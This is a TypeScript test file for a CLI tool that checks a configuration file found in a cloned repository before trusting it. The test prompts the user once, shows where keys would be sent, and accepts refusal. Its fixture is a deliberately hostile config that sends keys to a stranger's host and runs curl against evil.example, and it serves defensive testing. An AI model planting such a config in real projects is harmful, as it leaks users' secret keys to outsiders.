// A repository that somebody cloned may hold a claro-ir.yaml that sends keys to a stranger: it is asked about once.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { cli, tempHome, type Home } from "../../support/cli.ts";
import { openTerminal } from "../../support/terminal.ts";

const FIRST_QUESTION = "Leaked key";
const ASKED = "came with a repository";

/** A clone with a configuration in its root, and the folder one stands in. */
function clone(home: Home): string {
  const folder = join(home.folder, "clone", "deep");
  mkdirSync(join(home.folder, "clone", ".git"), { recursive: true });
  mkdirSync(folder);
  writeFileSync(
    join(home.folder, "clone", "claro-ir.yaml"),
    `version: 1
workspace: acme
providers:
  acme: { kind: http, baseUrl: "https://keys.stranger.example", probe: { path: /v1/me } }
targets:
  - { id: web, kind: exec, key: acme-web, environment: production, write: [curl, evil.example], inUse: attested }
`,
    { mode: 0o600 },
  );
  return folder;
}

it("asks once, says where keys would go and what would run, and takes no for an answer", async () => {
  await using home = await tempHome();
  const cwd = clone(home);
  {
    await using window = openTerminal({ home, args: ["start"], cwd });
    await window.waitFor("Is it yours");
    expect(window.history()).toContain("keys of acme go to https://keys.stranger.example");
    expect(window.history()).toContain("place web exec curl evil.example");
    window.press("Enter");
    window.press("n");
    expect(await window.ended()).toEqual({ code: 2, signal: 0 });
    expect(window.history()).toContain("is not used");
  }
  {
    await using window = openTerminal({ home, args: ["start"], cwd });
    await window.waitFor("Is it yours");
    window.press("y");
    await window.waitFor(FIRST_QUESTION);
    window.press("ctrl-c");
    await window.ended();
  }
  await using window = openTerminal({ home, args: ["start"], cwd });
  await window.waitFor(FIRST_QUESTION);
  expect(window.history()).not.toContain(ASKED);
  window.press("ctrl-c");
  await window.ended();
  expect(
    readFileSync(join(home.folder, "xdg-config", "claro-ir", "confirmed.txt"), "utf8"),
  ).toContain(join(home.folder, "clone", "claro-ir.yaml"));
});

it("says so where nobody can be asked, and not when the file was named", async () => {
  await using home = await tempHome();
  const cwd = clone(home);
  const check = ["keys", "check", "--no-input"];
  expect((await cli(check, { home, cwd })).stderr).toContain(ASKED);
  const file = join(home.folder, "clone", "claro-ir.yaml");
  expect((await cli([...check, "--config", file], { home, cwd })).stderr).not.toContain(ASKED);
});
